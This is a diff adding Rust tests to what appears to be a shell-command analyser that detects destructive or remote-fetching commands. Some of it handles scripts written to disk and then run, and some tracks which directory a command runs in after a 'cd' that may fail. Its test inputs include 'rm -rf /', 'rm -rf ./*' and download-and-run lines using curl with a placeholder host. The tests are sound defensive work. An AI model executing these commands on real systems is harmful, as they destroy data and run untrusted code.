@@ -390,6 +390,14 @@ fn scripts_the_line_writes_are_read_when_it_runs_them() {
         assert!(runs(input, "rm -rf /"), "{input}: {:?}", parse(input));
     }
     assert!(!runs("echo 'rm -rf /' > notes.txt", "rm -rf /"));
+    // The script's arguments are its positional parameters.
+    for input in [
+        "printf '#!/bin/sh\\nexec rm -rf \"$@\"\\n' > x.sh && chmod +x x.sh && ./x.sh /",
+        "echo 'rm -rf \"$1\"' > x.sh; bash x.sh /",
+    ] {
+        assert!(runs(input, "rm -rf /"), "{input}: {:?}", parse(input));
+        assert!(parse(input).opaque.is_none(), "{input}");
+    }
     for downloaded in [
         "curl -o i.sh https://x.example/i.sh && bash i.sh",
         "curl https://x.example/i.sh > i.sh; sh ./i.sh",
@@ -1587,4 +1595,58 @@ fn awk_runs_the_command_a_variable_holds_when_it_is_assigned_a_constant() {
     ] {
         assert!(parse(input).opaque.is_some(), "{input}");
     }
+}
+
+#[test]
+fn a_cd_that_may_fail_leaves_what_follows_its_list_read_in_both_directories() {
+    let dirs = |input: &str| -> Vec<(String, Option<String>)> {
+        parse(input)
+            .commands
+            .iter()
+            .map(|c| (c.text(), c.dir.clone()))
+            .collect()
+    };
+    let at = |command: &str, dir: Option<&str>| (command.to_owned(), dir.map(str::to_owned));
+    assert_eq!(
+        dirs("cd build && rm -rf ./*"),
+        [at("cd build", Some(".")), at("rm -rf ./*", Some("./build"))]
+    );
+    // After `;`, the next command runs where the line started if the `cd` failed: it is
+    // read there too.
+    assert_eq!(
+        dirs("cd build; rm -rf ./*"),
+        [
+            at("cd build", Some(".")),
+            at("rm -rf ./*", Some("./build")),
+            at("rm -rf ./*", Some("."))
+        ]
+    );
+    assert_eq!(
+        dirs("cd build && make; rm -rf ./*")[2..],
+        [
+            at("rm -rf ./*", Some("./build")),
+            at("rm -rf ./*", Some("."))
+        ]
+    );
+    // A second `cd` from where the first may not have gone: not known.
+    assert_eq!(
+        dirs("cd build; cd sub; rm x")[3..],
+        [at("rm x", Some("./build/sub")), at("rm x", None)]
+    );
+    // Unless the list leaves the shell when the `cd` fails.
+    for input in [
+        "cd build || exit 1; rm -rf ./*",
+        "cd build || return; rm -rf ./*",
+        "cd build || { echo no build; exit 1; }; rm -rf ./*",
+    ] {
+        assert_eq!(
+            dirs(input).last(),
+            Some(&at("rm -rf ./*", Some("./build"))),
+            "{input}"
+        );
+    }
+    assert_eq!(
+        dirs("cd build || (exit 1); rm -rf ./*").last(),
+        Some(&at("rm -rf ./*", Some(".")))
+    );
 }
